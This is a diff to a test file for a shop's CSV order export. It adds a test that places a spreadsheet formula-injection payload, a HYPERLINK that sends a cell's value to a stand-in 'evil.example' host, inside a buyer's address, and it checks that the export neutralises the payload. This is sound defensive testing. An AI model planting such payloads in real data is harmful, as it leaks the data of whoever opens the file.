@@ -1,3 +1,4 @@
+import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { addProduct, buy, fault, ledger, pay } from '../../test/goods.ts';
 import { settleOpen } from '../../test/judge.ts';
@@ -221,8 +222,22 @@ describe('The list of orders', () => {
     await buy(shop, bear, shop.tokens.asha);
     const { body, headers } = await desk('GET', '/user/orders.csv?search=asha');
     expect(headers['content-type']).toBe('text/csv; charset=utf-8');
-    expect(body).toContain(`"'=HYPERLINK(""http://evil"")",1,321`);
+    expect(body).toContain(`"'=HYPERLINK(""http://evil"")","1","321"`);
     expect((await shop.call('GET', '/user/orders.csv')).status).toBe(401);
+  });
+
+  it('leaves as CSV in which a buyer’s address is one cell, whatever line breaks and formulas it holds', async () => {
+    const bear = await addProduct(shop, { name: 'Formula Bear', price: 300, quantity: 4 });
+    const address = '1 Fort Road\n=HYPERLINK("http://evil.example?"&A1,"click")\u2028@SUM(1)';
+    const delivery = { name: 'Guest Gita', phone: '98111 22333', email: 'formula@example.com', address };
+    const body = { amount: 30_000, product: { id: bear._id }, delivery };
+    const opened = await shop.call('POST', '/product/orders', { body });
+    await shop.call('POST', '/product/payment-callback', { body: await pay(shop, opened.body.id) });
+    const file = (await desk('GET', '/user/orders.csv?search=formula')).body as string;
+    const [order, ...others] = parse(file, { bom: true, columns: true }) as Record<string, string>[];
+    expect(others).toEqual([]);
+    expect(order?.Address).toMatch(/^1 Fort Road\n'=HYPERLINK.*\u2028'@SUM/);
+    expect(order?.Buyer).toBe('Guest Gita');
   });
 
   it('adds up to the numbers of the last days', async () => {
